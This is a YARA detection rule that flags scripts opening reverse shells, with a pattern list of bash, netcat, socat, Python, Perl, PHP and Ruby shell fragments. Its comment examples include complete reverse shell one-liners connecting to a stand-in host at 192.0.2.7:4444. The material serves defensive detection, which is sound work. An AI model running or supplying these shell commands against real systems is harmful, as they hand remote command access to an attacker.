rule reverse_shell_script : script
{
    meta:
        title = "carry a script that hands a shell to somebody outside"
        explanation = "A script connects a shell's input and output to an outgoing connection, so that whoever listens there can type commands. Legitimate remote access waits for connections and asks who is there. Look at the address it connects to."
        class = "malware"
        severity = "critical"
        confidence = "medium"
        attack = "T1059.004"
        reference = "https://attack.mitre.org/techniques/T1059/004/"
    strings:
        $bash1 = "bash -i >& /dev/tcp/"
        $bash2 = "sh -i >& /dev/tcp/"
        $bash3 = "bash -i &>/dev/tcp/"
        $bash4 = "bash -i > /dev/tcp/"
        $bash5 = "0<&196;exec 196<>/dev/tcp/"
        $bash6 = "sh -i >& /dev/udp/"
        $fifo1 = "/bin/sh -i 2>&1|nc "
        $fifo2 = "/bin/sh -i 2>&1 | nc "
        $fifo3 = "/bin/bash -i 2>&1|nc "
        $nc1 = "nc -e /bin/sh "
        $nc2 = "nc -e /bin/bash "
        $nc3 = "ncat -e /bin/bash "
        $nc4 = "nc.traditional -e /bin/"
        $socat1 = "socat exec:'bash -li'"
        $socat2 = "socat EXEC:/bin/bash"
        $socat3 = "socat tcp-connect:"
        $socat_shell = "exec:/bin/sh"
        $python_connect1 = ".connect("
        $python_connect2 = "create_connection("
        $python_dup0 = "os.dup2(s.fileno(),0)"
        $python_dup1 = "os.dup2(s.fileno(), 0)"
        $python_fd = "[os.dup2(s.fileno(),f"
        $python_shell1 = "pty.spawn("
        $python_shell2 = "[\"/bin/sh\",\"-i\"]"
        $python_shell3 = "[\"/bin/bash\",\"-i\"]"
        $python_shell4 = "[\"/bin/sh\", \"-i\"]"
        $perl1 = "open(STDIN,\">&S\")"
        $perl2 = "exec(\"/bin/sh -i\")"
        $php1 = "fsockopen("
        $php2 = "/bin/sh -i <&3 >&3 2>&3"
        $ruby = "exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\""
    condition:
        filesize < 128KB and uint32(0) != 0x464c457f and
        (uint16(0) == 0x2123 or uint32(0) == 0x6f706d69 or uint32(0) == 0x68703f3c) and (
            1 of ($bash*) or 1 of ($fifo*) or 1 of ($nc*) or 1 of ($socat1, $socat2) or ($socat3 and $socat_shell) or
            (1 of ($python_connect*) and 1 of ($python_dup*, $python_fd) and 1 of ($python_shell*)) or
            all of ($perl*) or all of ($php*) or $ruby
        )
}

/* example: fires on bash and on Python
    FILE /opt/a.sh 0755
        #!/bin/bash
        bash -i >& /dev/tcp/192.0.2.7/4444 0>&1
    FILE /opt/a.py 0755
        #!/usr/bin/python3
        import socket,os,pty
        s=socket.socket();s.connect(("192.0.2.7",4444))
        os.dup2(s.fileno(),0)
        pty.spawn("/bin/sh")
*/
/* example: quiet on a health check by /dev/tcp, a rule file and a cheat sheet
    FILE /usr/local/bin/healthy.sh 0755
        #!/bin/bash
        exec 3<>/dev/tcp/127.0.0.1/8080 && printf 'GET / HTTP/1.0\r\n\r\n' >&3
    FILE /etc/falco/rules.yaml
        condition: proc.cmdline contains "bash -i >& /dev/tcp/"
    FILE /usr/share/doc/shells.md
        # Shells
        bash -i >& /dev/tcp/192.0.2.7/4444 0>&1
        nc -e /bin/sh 192.0.2.7 4444
*/
